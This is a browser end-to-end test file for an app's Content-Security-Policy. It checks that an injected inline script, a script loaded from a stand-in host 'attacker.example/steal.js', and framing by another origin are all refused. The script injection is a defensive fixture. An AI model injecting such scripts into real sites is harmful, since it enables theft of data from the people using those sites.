import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AUTH_EMULATOR_URL } from '../tools/stack/config';
import { APP_URL, launchBrowser, type Browser } from './support/browser';

/**
 * The Content-Security-Policy is enforced, and the e2e tests notice a refusal: every other e2e file fails on any
 * violation (support/browser.ts), which proves the policy allows what the app does; this one proves it refuses
 * what an attacker would try.
 */
let browser: Browser;
beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(async () => {
  await browser?.close();
});

/** Takes the violations reported so far (they are expected here, and must not fail the file on close). */
const takeViolations = () => browser.cspViolations.splice(0).join('\n');

describe('Content-Security-Policy in the browser', () => {
  it('refuses an injected inline script and a script from elsewhere', async () => {
    const { page } = browser;
    await page.goto(APP_URL);
    await page.getByRole('link', { name: 'StockSeer home' }).waitFor();
    const outcome = await page.evaluate(async () => {
      const inline = document.createElement('script');
      inline.textContent = 'window.__injected = true';
      document.head.append(inline);
      const remote = document.createElement('script');
      remote.src = 'https://attacker.example/steal.js';
      const remoteFailed = new Promise<boolean>((resolve) => {
        remote.onerror = () => resolve(true);
        remote.onload = () => resolve(false);
      });
      document.head.append(remote);
      return { inlineRan: (window as { __injected?: boolean }).__injected === true, remoteFailed: await remoteFailed };
    });
    expect(outcome).toEqual({ inlineRan: false, remoteFailed: true });
    await expect.poll(() => browser.cspViolations.join('\n')).toMatch(/attacker\.example/);
    const violations = takeViolations();
    expect(violations).toMatch(/inline/i);
    expect(violations).toMatch(/script-src/);
  });

  it('refuses to be framed by another origin', async () => {
    const { page } = browser;
    // Another origin on this machine (the Auth emulator's), so that only the CSP stands in the way.
    await page.goto(AUTH_EMULATOR_URL);
    await page.setContent(`<iframe src="${APP_URL}/"></iframe>`);
    await expect.poll(() => browser.cspViolations.join('\n')).toMatch(/frame-ancestors 'self'/);
    takeViolations();
    expect(page.frames().map((f) => f.url())).not.toContain(`${APP_URL}/`);
  });
});
